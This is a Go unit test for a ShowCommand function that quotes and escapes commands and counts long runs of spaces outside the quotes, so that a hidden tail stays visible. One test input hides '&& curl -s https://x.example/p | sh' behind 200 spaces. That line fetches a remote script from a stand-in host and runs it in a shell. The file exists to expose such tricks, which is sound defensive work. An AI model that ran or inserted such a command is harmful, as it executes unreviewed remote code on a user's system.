package text

import (
	"strings"
	"testing"
)

// A command is shown whole: quoted and escaped, never cut, and a long run of spaces
// (which would push the rest past the edge of a terminal) counted outside the quotes.
func TestShowCommand(t *testing.T) {
	t.Parallel()
	tail := "&& curl -s https://x.example/p | sh"
	long := "make test" + strings.Repeat(" ", 200) + tail + strings.Repeat("x", 500)
	for in, want := range map[string]string{
		"make test":                `"make test"`,
		"a  b":                     `"a  b"`,
		"a\tb\x1b[2J\u202e":        `"a\tb\x1b[2J\u202e"`,
		"   x":                     `<3 spaces> "x"`,
		"x    ":                    `"x" <4 spaces>`,
		"":                         `""`,
		"a   b\u00a0\u00a0\u00a0c": `"a" <3 spaces> "b\u00a0\u00a0\u00a0c"`,
	} {
		if got := ShowCommand(in); got != want {
			t.Errorf("ShowCommand(%q) = %s, want %s", in, got, want)
		}
	}
	got := ShowCommand(long)
	if want := `"make test" <200 spaces> "` + tail + strings.Repeat("x", 500) + `"`; got != want {
		t.Fatalf("ShowCommand(long) = %s", got)
	}
}
